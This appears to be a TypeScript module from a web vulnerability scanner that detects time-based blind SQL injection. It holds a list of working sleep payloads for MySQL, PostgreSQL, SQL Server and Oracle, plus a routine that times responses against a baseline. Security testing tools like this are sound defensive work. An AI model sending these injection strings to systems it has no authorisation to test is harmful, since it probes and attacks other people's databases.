import { baselineTime, confirmDelay, delayMessage } from '../shared/timing.js';
import type { Attack } from '../shared/probe.js';
import type { SqlProof } from './error-based.js';

/** Delays by engine; SQLite has no sleep function, so it is found by errors and conditions only. */
const DELAYS: readonly { engine: string; payload: (v: string, s: number) => string }[] = [
  { engine: 'MySQL', payload: (v, s) => `${v}' AND SLEEP(${s}) AND '1'='1` },
  { engine: 'MySQL', payload: (v, s) => `${v} AND SLEEP(${s})` },
  { engine: 'PostgreSQL', payload: (v, s) => `${v}' AND 1=(SELECT 1 FROM PG_SLEEP(${s})) AND '1'='1` },
  { engine: 'PostgreSQL', payload: (v, s) => `${v};SELECT PG_SLEEP(${s})--` },
  { engine: 'Microsoft SQL Server', payload: (v, s) => `${v}';WAITFOR DELAY '0:0:${s}'--` },
  { engine: 'Oracle', payload: (v, s) => `${v}' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('plx',${s}) AND '1'='1` },
];

/** A database sleep the payload asks for delays the answer; confirmed against a zero-second control and repeated. */
export async function timeBased(attack: Attack, seconds: number): Promise<SqlProof | undefined> {
  const baselineMs = await baselineTime(attack);
  if (baselineMs === undefined) return undefined;
  const v = attack.point.value;
  for (const delay of DELAYS) {
    const proof = await confirmDelay(attack, (s) => delay.payload(v, s), seconds, baselineMs);
    if (!proof) continue;
    return {
      exchange: proof.exchange,
      message: `The ${delay.engine} delay ${JSON.stringify(delay.payload(v, seconds))} holds the answer back: ${delayMessage(proof, seconds)}`,
      evidence: delay.payload(v, seconds),
      confidence: 'medium',
    };
  }
  return undefined;
}
